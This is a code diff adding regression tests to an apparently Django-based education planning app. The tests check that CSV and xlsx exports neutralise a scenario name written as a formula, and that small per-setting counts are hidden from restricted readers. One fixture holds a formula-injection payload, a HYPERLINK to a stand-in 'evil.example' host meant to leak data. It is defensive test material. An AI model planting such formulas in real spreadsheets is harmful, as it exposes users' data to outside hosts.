@@ -210,3 +210,39 @@ def test_compare_two_scenarios(client, make_user, make_scenario):
     names = {row[0].value for row in wb["DSG position"].iter_rows(min_row=2)}
     assert names == {"Alpha", "Beta"}
     assert client.get(f"/planning/compare/export.csv?scenarios={a.pk}").status_code == 404
+
+
+def test_a_scenario_named_as_a_formula_exports_as_text(client, make_user, make_scenario):
+    """Finding 5: the scenario name =HYPERLINK(...) became a live formula in the xlsx and the CSV."""
+    name = '=HYPERLINK("http://evil.example/?leak","Open")'
+    scenario = make_scenario(name=name)
+    signed_in(client, make_user, "finance")
+    wb = load_workbook(io.BytesIO(client.get(f"/planning/scenarios/{scenario.pk}/export.xlsx").content))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    assert not any(c.data_type == "f" or c.value.startswith("=") for c in cells)
+    assert wb["DSG position"].cell(2, 1).value == "'" + name
+    rows = list(csv.DictReader(io.StringIO(client.get(f"/planning/scenarios/{scenario.pk}/export.csv").content.decode())))
+    assert rows[0]["scenario"] == "'" + name
+
+
+def _by_setting_cells(page: str) -> list[str]:
+    table = page[page.index('id="by-setting"'):]
+    table = table[:table.index("</table>")]
+    return re.findall(r'<td class="govuk-table__cell govuk-table__cell--numeric">([^<]*)</td>', table)
+
+
+def test_plans_by_setting_are_protected_for_readers_who_cannot_open_every_record(client, make_user, make_scenario):
+    """Finding 6: a first-year projection by setting is close to the children counted in casework (4 placed in
+    independent special schools here)."""
+    scenario = make_scenario(name="Small")
+    signed_in(client, make_user, "manager")
+    exact = _by_setting_cells(client.get(f"/planning/scenarios/{scenario.pk}/").content.decode())
+    assert any(0 < int(c.replace(",", "")) < 5 for c in exact if c.replace(",", "").isdigit())
+    client.logout()
+    signed_in(client, make_user, "finance")
+    cells = _by_setting_cells(client.get(f"/planning/scenarios/{scenario.pk}/").content.decode())
+    assert "Not shown" in cells
+    assert all(c == "Not shown" or int(c.replace(",", "")) % 5 == 0 for c in cells)
+    wb = load_workbook(io.BytesIO(client.get(f"/planning/scenarios/{scenario.pk}/export.xlsx").content))
+    values = [c.value for row in wb["Plans by setting"].iter_rows(min_row=2) for c in row[2:]]
+    assert "Not shown" in values and all(v == "Not shown" or v % 5 == 0 for v in values)
